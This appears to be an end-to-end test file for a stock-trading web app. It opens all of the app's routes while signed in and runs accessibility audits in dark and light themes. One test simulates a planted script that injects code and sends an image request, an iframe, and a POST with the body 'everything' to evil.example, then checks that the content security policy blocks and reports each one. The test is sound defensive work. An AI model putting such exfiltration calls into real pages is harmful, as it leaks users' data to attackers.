import { AxeBuilder } from '@axe-core/playwright';
import type { Page } from 'playwright-core';
import { describe, expect, test } from 'vitest';
import { ROUTES } from '../web/src/app/manifest.ts';
import landing from '../web/src/i18n/en/landing.ts';
import { Phone } from './browser.ts';
import { takeBreaches } from './content-policy.ts';
import { stage } from './stage.ts';

/** Every place of the app, opened as a person signed in finds it. */

const here = stage();
const { server } = here;

const BARE: Readonly<Record<string, string>> = {
  '/stockDetails': '?code=AAPL',
  '/StockDetailsEft': '?code=SPY',
  '/companyDetail': '?code=AAPL',
  '/transactionBuy': '?code=AAPL',
  '/transactionFlat': '?code=AAPL',
  '/classifDetail': '?id=energy',
  '/markDetails': '?list=gainers',
};

/** Goes there as a tap on a link would, without loading the app again, and waits until the app says so and has a heading. */
async function go({ page, phone }: { page: Page; phone: Phone }, path: string): Promise<void> {
  const before = phone.paths.length;
  if (path === new URL(page.url()).pathname) return;
  await page.evaluate(
    (to) => {
      history.pushState({}, '', to);
      dispatchEvent(new PopStateEvent('popstate', { state: {} }));
    },
    `${path}${BARE[path] ?? ''}`,
  );
  await expect.poll(() => phone.paths.slice(before)).toContain(path);
  await page.locator('h1').first().waitFor();
}

async function signedIn(colorScheme: 'dark' | 'light'): Promise<{ phone: Phone; page: Page }> {
  const phone = await Phone.open(here.browser, server.url, colorScheme);
  const page = await phone.page('/');
  await page.getByRole('button', { name: landing.tryIt }).click();
  await page.waitForURL('**/index');
  await page.getByRole('navigation', { name: 'Main' }).waitFor();
  await page.locator('main h1').first().waitFor();
  return { phone, page };
}

describe('the places of the app', () => {
  test('all 176 routes open without an error, a broken content policy or an empty page', async () => {
    expect(ROUTES).toHaveLength(176);
    const { phone, page } = await signedIn('dark');
    const failed: string[] = [];
    for (const { path } of ROUTES)
      await go({ page, phone }, path).catch((error) => failed.push(`${path}: ${String(error).slice(0, 120)}`));
    expect(failed).toEqual([]);
    expect(phone.complaints).toEqual([]);
    await phone.close();
  });

  test('what a planted script would do is held back, and would be noticed', async () => {
    const phone = await Phone.open(here.browser, server.url);
    const page = await phone.page('/loadPage');
    await page.evaluate(() => {
      const script = document.createElement('script');
      try {
        script.textContent = 'globalThis.planted = true';
        document.head.append(script);
      } catch {
        // Trusted types: not even the text is taken.
      }
      new Image().src = 'https://evil.example/pixel.png';
      void fetch('https://evil.example/', { method: 'POST', body: 'everything' }).catch(() => {});
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/';
      document.body.append(frame);
    });
    const broken = new Set<string | undefined>();
    const noticed = () => {
      for (const breach of takeBreaches()) broken.add(breach.split(' ')[1]);
      return [...broken].sort();
    };
    await expect.poll(noticed).toEqual(['connect-src', 'frame-src', 'img-src', 'require-trusted-types-for']);
    expect(await page.evaluate(() => 'planted' in globalThis)).toBe(false);
    await phone.close();
    takeBreaches();
  });

  test.for(['dark', 'light'] as const)('built screens have no accessibility fault, %s', async (scheme) => {
    const faults: string[] = [];
    const look = async (page: Page, path: string): Promise<void> => {
      // A title that is just fading in has no contrast of its own yet.
      await page.emulateMedia({ reducedMotion: 'reduce' });
      const at = page.url();
      await page.locator('h1').first().waitFor();
      const axe = new AxeBuilder({ page });
      // The other theme has the same structure in other colours.
      if (scheme === 'light') axe.withRules(['color-contrast']);
      const { violations } = await axe.analyze();
      // Some places lead on to another at once; what was seen on the way is neither of them.
      if (page.url() !== at) return look(page, path);
      for (const { id, nodes } of violations) faults.push(`${path} ${id}: ${nodes[0]?.html.slice(0, 140)}`);
    };
    // Who is signed in is led on from the landing page.
    const visitor = await Phone.open(here.browser, server.url, scheme);
    await look(await visitor.page('/loadPage'), '/loadPage');
    await visitor.close();
    const { phone, page } = await signedIn(scheme);
    for (const { path, built, kind } of ROUTES) {
      if (!built || kind !== 'page' || path === '/loadPage') continue;
      await go({ page, phone }, path);
      await look(page, path);
    }
    expect(faults).toEqual([]);
    await phone.close();
  });
});
